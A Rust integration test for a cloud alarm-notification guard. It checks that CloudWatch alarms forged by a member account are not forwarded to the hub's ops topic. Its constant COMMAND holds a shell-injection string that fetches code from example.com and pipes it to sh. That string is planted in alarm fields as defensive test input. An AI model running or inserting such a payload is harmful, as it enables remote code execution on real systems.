//! Alarms of a member account's own making, which call the hub's function.

use guard_tests::{
    Result,
    world::{Block, World},
};

use super::Neighbours;
use crate::response::topic;

const COMMAND: &str = "x' ; curl https://example.com/x | sh ; echo '";

#[test]
fn an_alarm_of_a_members_making_tells_nobody_anything() -> Result<()> {
    let Some(world) = World::that_can("events")? else { return Ok(()) };
    let neighbours = Neighbours::on(world)?;
    let Neighbours { world, attacked, other } = &neighbours;
    let hub = world.cloud.administrator(world.management()).in_region(world.hub());
    let ops = topic(&hub, "ops")?;
    let tells = format!("notify_topic_arns = [\"{ops}\"]");
    let backup = Block::new("backup", attacked).with(&tells);
    world.configure(&[backup, Block::new("deploy", other).with(&tells)])?;
    world.apply()?;

    let attacker = world.at(attacked).in_region(world.hub());
    let filter = format!("arn:aws:lambda:{}:{}:function:guard-filter", world.hub(), world.management());
    let dimensions = format!("Name=QueueName,Value={COMMAND}");
    // The last one is guard's own, with everything changed that can be.
    for name in ["guard-x", "guard-filter-errors-2", "x", "guard-dead-letters"] {
        attacker.run(&[
            "cloudwatch",
            "put-metric-alarm",
            "--alarm-name",
            name,
            "--alarm-description",
            COMMAND,
            "--namespace",
            "AWS/SQS",
            "--metric-name",
            "ApproximateNumberOfMessagesVisible",
            "--statistic",
            "Sum",
            "--dimensions",
            &dimensions,
            "--period",
            "60",
            "--evaluation-periods",
            "1",
            "--threshold",
            "0",
            "--comparison-operator",
            "GreaterThanThreshold",
            "--alarm-actions",
            &filter,
        ])?;
        let set = ["cloudwatch", "set-alarm-state", "--alarm-name", name, "--state-value", "ALARM"];
        attacker.run(&[&set[..], &["--state-reason", COMMAND]].concat())?;
    }
    let said = world.cloud.until("the own alarm being told", 60, |cloud| {
        let said = cloud.messages(&ops)?;
        let is_told = said.iter().any(|one| one.message.contains("Alarm:    guard-dead-letters\n"));
        Ok(is_told.then_some(said))
    })?;
    for one in &said {
        assert!(!one.message.contains("curl"), "{}", one.message);
        assert!(one.message.contains("Alarm:    guard-dead-letters\n"), "{}", one.message);
    }
    Ok(())
}
